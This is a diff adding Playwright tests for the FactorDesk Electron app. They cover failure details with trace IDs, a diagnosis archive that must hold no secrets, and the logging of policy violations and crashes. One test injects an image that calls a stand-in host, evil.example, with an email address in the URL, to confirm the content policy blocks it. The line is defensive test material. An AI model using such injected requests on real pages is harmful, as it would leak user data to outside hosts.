@@ -1,0 +1,129 @@
+import { readFileSync, rmSync } from 'node:fs'
+import { join } from 'node:path'
+import { expect, test } from '@playwright/test'
+import { readLog } from '../../src/main/log/read-log.ts'
+import type { LogLine } from '../../src/main/log/log-line.ts'
+import { dispose, launchApp, type RunningApp } from '../support/app.ts'
+import { findings } from '../support/axe.ts'
+import { findSecretsIn } from '../support/canaries.ts'
+import { ConsolePage, customers, samplePassword } from '../support/console-page.ts'
+import { readZip } from '../support/read-zip.ts'
+
+const { seriMuda, kenari, bayu } = customers
+
+let app: RunningApp
+let console_: ConsolePage
+
+test.beforeEach(async () => {
+  app = await launchApp()
+  console_ = new ConsolePage(app.page, app.sandbox)
+})
+test.afterEach(async () => {
+  await app.close()
+  dispose(app.profile)
+})
+
+const log = (): LogLine[] =>
+  readLog(join(app.profile, 'logs'))
+    .reverse()
+    .flatMap(({ lines }) => lines)
+
+/** Presses "Copy details" of the only failure on the screen and reads what is on the clipboard then. */
+async function copied(): Promise<string> {
+  const button = app.page.getByRole('button', { name: 'Copy details', exact: true })
+  await expect(button).toHaveCount(1)
+  await button.press('Enter')
+  await expect(app.page.getByRole('status').filter({ hasText: 'Copied' })).toHaveCount(1)
+  return app.electron.evaluate(({ clipboard }) => clipboard.readText())
+}
+
+const traceIn = (details: string): string => /^Trace ID: (\S+)$/m.exec(details)?.[1] ?? ''
+
+test('each kind of failure has its details, and their trace is the one in the log', async () => {
+  await app.page.getByLabel('User ID').fill(bayu.userId)
+  await app.page.getByLabel('Password', { exact: true }).fill('not the password')
+  await console_.button('Sign in').last().click()
+  const refused = await copied()
+  expect(refused).toMatch(
+    /^FactorDesk \d+\.\d+\.\d+\nWhen: 20\d\d-\S+Z\nOperation: session\.signIn\nCode: \S+\nTrace ID: \S+\n/,
+  )
+  const called = log().filter(({ trace }) => trace === traceIn(refused))
+  expect(called.map(({ event }) => event)).toEqual(['portal.called', 'audit.entry', 'operation.failed'])
+  for (const secret of [bayu.userId, 'not the password']) expect(refused).not.toContain(secret)
+
+  await console_.signIn(kenari, 'sms')
+  await console_.openSecurity(kenari)
+  await console_.button('Manage two-factor authentication').click()
+  await console_.button('Disable 2FA').click()
+  await console_.confirmPreflight()
+  await console_.disable('not the password')
+  const step = await copied()
+  expect(step).toMatch(/Operation: procedure at disable\nCode: wrong-password\n/)
+  const ofStep = log().filter(({ trace }) => trace === traceIn(step))
+  expect(ofStep).toMatchObject([
+    { event: 'portal.called', facts: { endpoint: 'disableTwoFactor', status: 403 } },
+    { event: 'audit.entry', facts: { action: 'effect.rejected' } },
+  ])
+
+  const path = '/accounts/{accountId}/two-factor/disable'
+  await app.sandbox.plan({ method: 'POST', path, fault: 'cut-after', times: 1 })
+  await app.sandbox.plan({ method: 'GET', path: '/operations/{key}', fault: 'unavailable', times: 1 })
+  await console_.disable()
+  await expect(console_.heading('Outcome unknown')).toBeVisible()
+  expect(await copied()).toMatch(/Code: outcome-unknown\n/)
+})
+
+test('a diagnosis lists what is in it, is saved, and names nobody', async () => {
+  await console_.signIn(seriMuda, 'authenticator')
+  await console_.signIn(bayu, null)
+  await app.page.getByRole('link', { name: 'Settings' }).click()
+  const section = app.page.getByRole('region', { name: 'Diagnosis' })
+  const listed = await section.getByRole('rowheader').allTextContents()
+  expect(listed).toEqual([
+    'system.json',
+    'settings.json',
+    'database.json',
+    'recent-failures.jsonl',
+    'logs/factordesk.log',
+  ])
+  expect(await findings(app.page)).toEqual([])
+  for (const theme of ['light', 'dark'] as const) {
+    await app.page.emulateMedia({ colorScheme: theme })
+    await section.scrollIntoViewIfNeeded()
+    if (process.env['FACTORDESK_PICTURES'])
+      await app.page.screenshot({ path: join(process.env['FACTORDESK_PICTURES'], `diagnosis-${theme}.png`) })
+  }
+  const target = join(app.profile, 'diagnosis.zip')
+  await app.electron.evaluate(({ dialog }, filePath) => {
+    dialog.showSaveDialog = () => Promise.resolve({ canceled: false, filePath })
+  }, target)
+  await section.getByRole('button', { name: 'Save a diagnosis' }).press('Enter')
+  await expect(section.getByText(`Saved: ${target}`)).toBeVisible()
+  const files = await readZip(target)
+  expect([...files.keys()]).toEqual(listed)
+  const names = [seriMuda, kenari, bayu].flatMap(({ id, userId, name }) => [id, userId, name])
+  const secrets = [...names, samplePassword, '60100000142', '60100000268', '60100000391']
+  for (const [name, content] of files) expect(findSecretsIn(content.toString(), name, secrets)).toEqual([])
+  expect(JSON.parse(files.get('system.json')!.toString())).toMatchObject({
+    versions: { electron: expect.stringMatching(/^\d+/) as unknown, chrome: expect.stringMatching(/^\d+/) as unknown },
+    platform: process.platform,
+  })
+  rmSync(target)
+})
+
+test('a violation of the content policy and a crash of the page are in the log', async () => {
+  await app.page.evaluate(() => {
+    const image = document.createElement('img')
+    image.src = 'https://evil.example/x.png?who=it@serimuda.example'
+    document.body.append(image)
+  })
+  await expect
+    .poll(() => log().find(({ event }) => event === 'page.policy-violated')?.facts)
+    .toEqual({ directive: 'img-src' })
+  await app.electron.evaluate(({ BrowserWindow }) => {
+    BrowserWindow.getAllWindows()[0]!.webContents.forcefullyCrashRenderer()
+  })
+  await expect.poll(() => log().some(({ event }) => event === 'page.gone')).toBe(true)
+  expect(readFileSync(join(app.profile, 'logs', 'factordesk.log'), 'utf8')).not.toMatch(/evil|serimuda/)
+  await app.kill()
+})
